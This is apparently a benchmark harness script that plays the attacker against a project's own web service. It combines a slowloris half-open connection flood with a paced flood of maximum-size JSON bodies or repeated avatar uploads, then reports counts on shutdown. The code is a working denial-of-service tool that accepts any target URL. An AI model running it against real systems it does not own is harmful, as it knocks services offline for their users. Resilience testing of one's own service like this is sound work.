/**
 * The attacker of the "under attack" row (issue 14), a small process of its own so that its
 * CPU is counted apart from the load generator's and the service's. Raw sockets, no HTTP
 * client library:
 * - `--half-open N` connections that send a request line and one header, then one more header
 *   line every few seconds and never finish (slowloris); one the server closes is reopened.
 * - `--rate R` bodies a second of exactly `--size` bytes (the body limit, 16 KiB by default),
 *   JSON objects full of small keys (the costliest shape to parse per byte), POSTed to `--path`
 *   over `--connections` keep-alive connections, each waiting for its answer before the next.
 * It prints `ATTACK_READY` once its half-open connections are open (or after 5 s) and the bodies
 * start. On SIGTERM it prints one line `ATTACK_JSON {…}`: bodies sent and answered by HTTP status,
 * reconnects, half-open connections alive, and exits.
 * With `--token T --file F` the bodies are instead avatar uploads of F (multipart, as
 * wx.uploadFile sends) by the user of session T: one user uploading from many connections.
 *
 *   node --import tsx bench/attack.ts --url http://127.0.0.1:3000 [--half-open 300] [--rate 200]
 */
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    url: { type: 'string' },
    path: { type: 'string', default: '/service/user/loginByOpenid' },
    'half-open': { type: 'string', default: '300' },
    rate: { type: 'string', default: '200' },
    connections: { type: 'string', default: '4' },
    size: { type: 'string', default: '16384' },
    token: { type: 'string' },
    file: { type: 'string' },
  },
});
const target = new URL(values.url!);
const port = Number(target.port);
const host = target.hostname;
const halfOpen = Number(values['half-open']);
const rate = Number(values.rate);
const size = Number(values.size);

/** `{"openid":"bench_0","k0":0,"k1":0,…}` padded with spaces to exactly `bytes`. */
function bodyOf(bytes: number): Buffer {
  let s = '{"openid":"bench_0"';
  for (let i = 0; s.length + `,"k${i}":0`.length + 1 <= bytes; i++) s += `,"k${i}":0`;
  s += '}';
  return Buffer.from(s.padEnd(bytes, ' '));
}
const part = '--b0\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n';
const [path, type, body] = values.token
  ? [
      `/service/user/avatar`,
      `multipart/form-data; boundary=b0\r\nAuthorization: Bearer ${values.token}`,
      Buffer.concat([Buffer.from(part), readFileSync(values.file!), Buffer.from('\r\n--b0--\r\n')]),
    ]
  : [values.path, 'application/json', bodyOf(size)];
const request = Buffer.concat([
  Buffer.from(
    `POST ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\nContent-Type: ${type}\r\n` +
      `Content-Length: ${body.length}\r\n\r\n`,
  ),
  body,
]);

const stats = { sent: 0, answered: {} as Record<string, number>, reconnects: 0, halfOpenAlive: 0, late: 0 };
let stopping = false;

function opened(socket: Socket, onClose: () => void): Socket {
  socket.setNoDelay(true);
  socket.on('error', () => undefined);
  socket.once('close', () => {
    if (stopping) return;
    stats.reconnects += 1;
    setTimeout(onClose, 100);
  });
  return socket;
}

// --- half-open connections ---------------------------------------------------------------
const slow = new Set<Socket>();
let ready: () => void;
const allOpen = new Promise<void>((resolve) => (ready = resolve));
function openSlow(): void {
  const s = opened(connect(port, host), openSlow);
  s.once('connect', () => {
    slow.add(s);
    s.write(`POST ${values.path} HTTP/1.1\r\nHost: ${host}\r\n`);
    if (slow.size >= halfOpen) ready();
  });
  s.once('close', () => slow.delete(s));
}
for (let i = 0; i < halfOpen; i++) openSlow();
if (halfOpen === 0) ready!();
const drip = setInterval(() => {
  for (const s of slow) s.write(`X-Wait-${Math.floor(Math.random() * 1e6)}: 1\r\n`);
}, 5000);

// --- maximum-size bodies -----------------------------------------------------------------
interface Sender {
  socket: Socket;
  busy: boolean;
  buf: Buffer;
}
const senders: Sender[] = [];
function openSender(i: number): void {
  const sender: Sender = {
    socket: opened(connect(port, host), () => openSender(i)),
    busy: false,
    buf: Buffer.alloc(0),
  };
  senders[i] = sender;
  sender.socket.on('data', (chunk: Buffer) => {
    sender.buf = Buffer.concat([sender.buf, chunk]);
    // One answer at a time: status line, headers, then Content-Length bytes.
    const end = sender.buf.indexOf('\r\n\r\n');
    if (end < 0) return;
    const head = sender.buf.subarray(0, end).toString('latin1');
    const length = Number(/\r\ncontent-length: *(\d+)/i.exec(head)?.[1] ?? 0);
    if (sender.buf.length < end + 4 + length) return;
    const status = head.slice(9, 12);
    stats.answered[status] = (stats.answered[status] ?? 0) + 1;
    sender.buf = sender.buf.subarray(end + 4 + length);
    sender.busy = false;
  });
  sender.socket.once('close', () => (sender.busy = true));
}
for (let i = 0; i < Number(values.connections); i++) openSender(i);

// Paced from the start: every 10 ms, as many bodies as the rate owes go to idle connections;
// a body owed while every connection still waits is counted late and not sent.
let started = 0;
let owed = 0;
let pace: NodeJS.Timeout | undefined;
void Promise.race([allOpen, new Promise((resolve) => setTimeout(resolve, 5000))]).then(() => {
  process.stdout.write('ATTACK_READY\n');
  started = performance.now();
  pace = setInterval(paced, 10);
});
function paced(): void {
  const due = Math.floor(((performance.now() - started) / 1000) * rate);
  for (; owed < due; owed++) {
    const idle = senders.find((s) => !s.busy && !s.socket.connecting && s.socket.writable);
    if (!idle) {
      stats.late += due - owed;
      owed = due;
      break;
    }
    idle.busy = true;
    idle.socket.write(request);
    stats.sent += 1;
  }
}

process.once('SIGTERM', () => {
  stopping = true;
  clearInterval(pace);
  clearInterval(drip);
  stats.halfOpenAlive = slow.size;
  process.stdout.write(`ATTACK_JSON ${JSON.stringify(stats)}\n`, () => {
    for (const s of slow) s.destroy();
    for (const s of senders) s.socket.destroy();
    process.exit(0);
  });
});
